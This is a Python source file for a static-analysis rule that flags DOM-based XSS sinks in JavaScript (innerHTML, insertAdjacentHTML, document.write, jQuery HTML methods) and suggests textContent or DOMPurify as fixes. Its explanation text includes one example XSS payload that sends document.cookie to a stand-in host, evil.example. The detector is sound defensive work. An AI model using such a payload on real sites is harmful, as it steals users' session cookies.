"""JS-XSS-001 xss-dom-html-sink: non-constant HTML written into the page.

**What it finds.** Assignments to `innerHTML`/`outerHTML`, calls to
`insertAdjacentHTML`, `document.write`/`writeln`, and jQuery `.html(x)`,
`.append(x)`, `.wrap(x)`, ... and `$(html)` (markup, or any value from the
URL or request) with a value that is not constant and not passed through an HTML
sanitiser (`DOMPurify.sanitize`, `sanitizeHtml`, `escapeHtml`, `he.encode`).

**Not reported.** Constant markup, numbers (`items.length`), and sanitised
values.

**Fix.** "Use textContent" when the value contains no markup of its own
(`el.innerHTML = "Hello " + name` becomes `el.textContent = ...`): the text
shows the same and the browser never parses it as HTML. Markup with values
inside needs DOM construction (`createElement`, `textContent`) or
`DOMPurify.sanitize`.
"""

from __future__ import annotations

import re
from typing import Iterator

from tree_sitter import Node

from ...common.names import call_matches, dotted_name, method_name, unit_nodes
from ...context import AnalysisContext
from ...javascript.flow import SYN
from ...javascript.queries import evidence, is_safe
from ...javascript.sources import HTML, safe_for
from ...javascript.strings import built_string, literal_value
from ...javascript.triggers import last_parts
from ...model import Confidence, Edit, Finding, Fix, Severity
from ..base import Explanation, Rule, register

SAFE_HTML = safe_for(HTML)
HTML_PROPERTIES = frozenset({"innerHTML", "outerHTML"})
_SINK_NODES = frozenset({"assignment_expression", "augmented_assignment_expression", "call_expression"})
JQUERY_HTML_METHODS = frozenset({"html", "append", "prepend", "after", "before", "replaceWith", "wrap", "wrapAll", "wrapInner", "insertBefore", "insertAfter", "appendTo", "prependTo"})
WRITE_CALLS = ("document.write", "document.writeln", "window.document.write")
JQUERY = ("$", "jQuery")
"""jQuery calls are recognised by these written names (never through imports)."""


def html_is_safe(ctx: AnalysisContext, node: Node | None) -> bool:
    return is_safe(ctx, node, SAFE_HTML)


@register
class JsDomXss(Rule):
    id = "JS-XSS-001"
    name = "xss-dom-html-sink"
    cwe = 79
    owasp = "A03:2021"
    severity = Severity.HIGH
    confidence = Confidence.MEDIUM
    languages = ("javascript",)
    # every sink: an HTML property, insertAdjacentHTML, document.write, or a chain starting with `$(`/`jQuery(`
    triggers = tuple(sorted(HTML_PROPERTIES | {"insertAdjacentHTML"})) + last_parts(WRITE_CALLS) + JQUERY
    fix_title = "Use textContent"
    summary = "Non-constant, unsanitised value written as HTML (innerHTML, outerHTML, insertAdjacentHTML, document.write)"
    explanation = Explanation(
        what="A value that is not constant is inserted into the page as HTML, so the browser parses it as markup and script.",
        why=(
            "It renders fine for names and messages, so it looks done. But any `<`, attribute or event handler in the "
            "value becomes live markup: a comment, a profile field or a URL parameter turns into script running in "
            "the victim's session (steal tokens, act as the user)."
        ),
        hostile_input="A user name `<img src=x onerror=\"fetch('//evil.example/?c='+document.cookie)\">` runs script for every viewer.",
        fix=(
            "Set text with `el.textContent = value`; build markup with `document.createElement` and `textContent`; "
            "when HTML is really needed, pass it through `DOMPurify.sanitize(html)` first."
        ),
    )

    def check(self, ctx: AnalysisContext) -> Iterator[Finding]:
        for node in unit_nodes(ctx, _SINK_NODES):
            if node.type in ("assignment_expression", "augmented_assignment_expression"):
                left = SYN.unwrap(node.child_by_field_name("left"))
                if left is None or left.type != "member_expression":
                    continue
                prop = ctx.text(left.child_by_field_name("property"))
                if prop not in HTML_PROPERTIES:
                    continue
                value = node.child_by_field_name("right")
                if html_is_safe(ctx, value):
                    continue
                fixes = ()
                if prop == "innerHTML" and node.type == "assignment_expression" and _is_text(ctx, value):
                    p = left.child_by_field_name("property")
                    fixes = (Fix("Use textContent (the value has no markup of its own)", (Edit(p.start_byte, p.end_byte, "textContent"),)),)
                yield self._report(ctx, node, value, f"`{prop}`", fixes)
            elif node.type == "call_expression":
                value, sink = self._call_sink(ctx, node)
                if value is not None and not html_is_safe(ctx, value):
                    yield self._report(ctx, node, value, sink, ())

    def _report(self, ctx, node, value, sink, fixes) -> Finding:
        found = evidence(ctx, value, HTML)
        return self.finding(
            ctx, node, f"XSS: non-constant value{found.origin} written as HTML via {sink}; use textContent or sanitise it",
            fixes=fixes, confidence=found.confidence,
        )

    @staticmethod
    def _call_sink(ctx: AnalysisContext, call: Node) -> tuple[Node | None, str]:
        args = SYN.arguments(call)
        if not args:
            return None, ""
        method = method_name(ctx, call)
        if method == "insertAdjacentHTML" and len(args) >= 2:
            return args[1], "`insertAdjacentHTML`"
        if call_matches(ctx, call, WRITE_CALLS):
            return args[0], "`document.write`"
        if method in JQUERY_HTML_METHODS and _is_jquery(ctx, call):
            if method == "html" or _looks_like_markup(ctx, args[0]) or evidence(ctx, args[0], HTML).taint is not None:
                return args[0], f"jQuery `.{method}()`"
            return None, ""
        if call_matches(ctx, call, JQUERY) and (_looks_like_markup(ctx, args[0]) or evidence(ctx, args[0], HTML).taint is not None):
            return args[0], "jQuery `$(html)`"
        return None, ""


def _is_jquery(ctx: AnalysisContext, call: Node) -> bool:
    node = call
    while node is not None and node.type in ("call_expression", "member_expression"):
        callee = node.child_by_field_name("function") if node.type == "call_expression" else node.child_by_field_name("object")
        if node.type == "call_expression" and dotted_name(ctx, callee) in JQUERY:
            return True
        node = SYN.unwrap(callee)
    return False


def _looks_like_markup(ctx: AnalysisContext, node: Node) -> bool:
    built = built_string(ctx, node)
    return built is not None and "<" in built.constant_text()


_MARKUP_NAME = re.compile(r"html|markup|template|tpl|content|svg|snippet|render|partial|body", re.IGNORECASE)
_TEXT_CALLS = frozenset({"String", "toString", "toLocaleString", "toFixed", "trim", "toUpperCase", "toLowerCase", "formatDate", "format"})


def _is_text(ctx: AnalysisContext, value: Node | None) -> bool:
    """A value with no markup of its own, so `textContent` shows the same:
    constant parts without `<` or `&`, and dynamic parts that are plain
    names (`user.name`, `count`), not HTML built elsewhere (`html`,
    `items.map(...).join("")`)."""
    value = SYN.unwrap(value)
    if value is None:
        return False
    built = built_string(ctx, value)
    if built is not None:
        return built.segments is not None and not any(c in built.constant_text() for c in "<&") and all(_is_text(ctx, h) for h in built.holes)
    if literal_value(ctx, value) is not None or value.type in ("number",):
        return value.type == "number"
    if value.type in ("identifier", "member_expression", "subscript_expression"):
        return not _MARKUP_NAME.search(ctx.text(value))
    if value.type == "call_expression":
        callee = ctx.text(SYN.callee(value)).rsplit(".", 1)[-1]
        return callee in _TEXT_CALLS and not _MARKUP_NAME.search(ctx.text(value))
    return False
